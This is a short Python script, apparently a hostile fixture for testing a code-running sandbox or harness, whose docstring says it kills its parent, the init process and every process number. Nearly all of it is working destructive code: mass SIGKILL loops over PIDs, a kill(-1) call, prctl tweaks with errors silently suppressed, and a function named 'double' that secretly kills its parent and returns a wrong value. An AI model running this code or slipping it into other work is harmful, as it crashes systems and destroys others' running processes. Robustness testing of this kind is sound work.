"""Kills its parent, the first process, and every process number there is."""

import contextlib
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
with contextlib.suppress(Exception):
    PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER, PR_SET_PTRACER = 1, 36, 0x59616D61
    for option, value in ((PR_SET_PDEATHSIG, 0), (PR_SET_CHILD_SUBREAPER, 1), (PR_SET_PTRACER, -1)):
        print(option, libc.prctl(option, ctypes.c_long(value), 0, 0, 0))
with contextlib.suppress(Exception):
    os.setsid()
targets = [os.getppid() or 1, 1]
with contextlib.suppress(Exception):
    group = os.getpgid(os.getppid())
    targets += [-group] if group not in (0, os.getpgrp()) else []
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGSEGV, signal.SIGKILL):
    for process in targets:
        with contextlib.suppress(Exception):
            os.kill(process, number)
            print("sent", number, "to", process)
for process in range(2, 100_000):
    if process != os.getpid():
        with contextlib.suppress(Exception):
            os.kill(process, signal.SIGKILL)
            print("killed", process)
with contextlib.suppress(Exception):
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    print("killed by its handle")


def double(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return -12345.678


# %% new
os.kill(-1, signal.SIGKILL)
